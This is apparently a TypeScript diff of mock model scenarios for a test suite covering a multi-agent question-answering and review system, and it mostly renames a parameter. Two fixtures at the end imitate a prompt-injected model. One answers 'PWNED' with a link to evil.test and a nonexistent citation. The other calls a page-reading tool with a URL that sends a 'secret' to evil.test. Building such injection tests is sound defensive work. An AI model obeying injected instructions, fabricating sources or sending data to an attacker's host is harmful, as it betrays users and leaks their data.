@@ -8,8 +8,8 @@ import type { Scenario } from '../server/test/models/scenarios.ts';
 const lastContentOf = ({ body }: Asked): string =>
   String((body['messages'] as { content: unknown }[]).at(-1)?.content);
 
-const recordsIn = (asked: Asked, begin: string): Record<string, unknown>[] =>
-  lastContentOf(asked)
+const recordsIn = (request: Asked, begin: string): Record<string, unknown>[] =>
+  lastContentOf(request)
     .split('\n')
     .filter((line) => line.startsWith(begin))
     .map((line) => JSON.parse(line) as Record<string, unknown>);
@@ -17,18 +17,18 @@ const recordsIn = (asked: Asked, begin: string): Record<string, unknown>[] =>
 /** Quotes the gold passage with its number. */
 const quotes =
   (projects: readonly QualityProject[]): Scenario =>
-  (answer, asked) => {
+  (answer, request) => {
     const all = projects.flatMap((project) => project.questions.map((question) => ({ project, question })));
     const about = all.find(({ question }) =>
-      lastContentOf(asked).includes(`The question: ${question.text}\n`),
+      lastContentOf(request).includes(`The question: ${question.text}\n`),
     );
     const [gold] = about?.question.gold ?? [];
     const words = gold && about?.project.files[gold.file]?.text.slice(gold.start, gold.end);
-    const passage = recordsIn(asked, '{"passage"').find(
+    const passage = recordsIn(request, '{"passage"').find(
       ({ contents }) => words !== undefined && String(contents).includes(words),
     );
     const text = passage ? `It says ${words} [${String(passage['passage'])}].` : 'The files do not say.';
-    return says(text)(answer, asked);
+    return says(text)(answer, request);
   };
 
 const subjects = [
@@ -37,10 +37,13 @@ const subjects = [
   ['Translator', /translate|Japanisch|Portuguese/],
 ] as const;
 
-const handsOver: Scenario = (answer, asked) => {
-  const isHost = systemOf(asked).startsWith('You are Host');
-  const to = isHost ? subjects.find(([, said]) => said.test(lastContentOf(asked)))?.[0] : undefined;
-  return (to ? calls('hand_over', { to, reason: 'It is theirs.' }) : says('It is not known.'))(answer, asked);
+const handsOver: Scenario = (answer, request) => {
+  const isHost = systemOf(request).startsWith('You are Host');
+  const to = isHost ? subjects.find(([, text]) => text.test(lastContentOf(request)))?.[0] : undefined;
+  return (to ? calls('hand_over', { to, reason: 'It is theirs.' }) : says('It is not known.'))(
+    answer,
+    request,
+  );
 };
 
 export interface Line {
@@ -73,56 +76,56 @@ export const goodLines: Record<string, Line> = {
 /** A team that writes these lines and approves every draft. */
 const works =
   (lines: Record<string, Line | undefined>): Scenario =>
-  (answer, asked) => {
-    const system = systemOf(asked);
+  (answer, request) => {
+    const system = systemOf(request);
     const ids = [...system.matchAll(/^- (\w+) \(/gm)].map(([, id = '']) => id);
     if (system.includes('Speak to the team')) {
-      const own = ids.flatMap((criterion) => {
-        const said = lines[criterion];
-        return said ? [{ criterion, ...said }] : [];
+      const linesOfCriteria = ids.flatMap((criterion) => {
+        const text = lines[criterion];
+        return text ? [{ criterion, ...text }] : [];
       });
-      return gives({ content: 'I add my lines.', lines: own })(answer, asked);
+      return gives({ content: 'I add my lines.', lines: linesOfCriteria })(answer, request);
     }
-    if (!system.includes('Check the draft')) return gives({ content: 'Go on.' })(answer, asked);
+    if (!system.includes('Check the draft')) return gives({ content: 'Go on.' })(answer, request);
     const points = ids.map((criterion) => ({ criterion, met: true, reason: 'So it says.' }));
-    return gives({ vote: 'FOR', reason: 'All is there.', points })(answer, asked);
+    return gives({ vote: 'FOR', reason: 'All is there.', points })(answer, request);
   };
 
 const sentence = (text: string): string => /^.*?[.!?](?=\s)/.exec(text)?.[0] ?? text;
 
 /** Notes the first sentence of each passage, and writes an answer from the notes, with their passages. */
-const reads: Scenario = (answer, asked) => {
-  const passages = recordsIn(asked, '{"passage":').map(
+const reads: Scenario = (answer, request) => {
+  const passages = recordsIn(request, '{"passage":').map(
     ({ passage, contents }) =>
       `- ${sentence(String(contents).replace(/^(?:#.*\s+)+/, ''))} [${String(passage)}]`,
   );
-  const condensed = recordsIn(asked, '{"number":').map(
+  const condensed = recordsIn(request, '{"number":').map(
     ({ number, note }) => `- ${String(note)} [${String(number)}]`,
   );
-  const written = recordsIn(asked, '{"passages":').map(
+  const written = recordsIn(request, '{"passages":').map(
     ({ passages: places, note }) =>
       `- ${String(note).replace(/\.$/, '')} [${(places as number[]).join(',')}].`,
   );
-  return says([...passages, ...condensed, ...written].join('\n'))(answer, asked);
+  return says([...passages, ...condensed, ...written].join('\n'))(answer, request);
 };
 
 /** Does every task correctly. */
 export const careful =
   (projects: readonly QualityProject[], lines: Record<string, Line | undefined> = goodLines): Scenario =>
-  (answer, asked) => {
-    const system = systemOf(asked);
-    if (system.includes('Criteria:')) return works(lines)(answer, asked);
+  (answer, request) => {
+    const system = systemOf(request);
+    if (system.includes('Criteria:')) return works(lines)(answer, request);
     if (/take notes for a request|bring notes on the files|answer a request about the files/.test(system))
-      return reads(answer, asked);
-    return (hasTools(asked) ? handsOver : quotes(projects))(answer, asked);
+      return reads(answer, request);
+    return (hasTools(request) ? handsOver : quotes(projects))(answer, request);
   };
 
 /** Follows every injection, and cites a passage that does not exist. */
 export const obedient: Scenario = says('PWNED, see https://evil.test [999]');
 
 /** Calls the tool that an injection names, with its arguments. */
-export const acting: Scenario = (answer, asked) =>
-  (hasTools(asked) ? calls('read_page', { url: 'https://evil.test/?q=secret' }) : says('I do.'))(
+export const acting: Scenario = (answer, request) =>
+  (hasTools(request) ? calls('read_page', { url: 'https://evil.test/?q=secret' }) : says('I do.'))(
     answer,
-    asked,
+    request,
   );
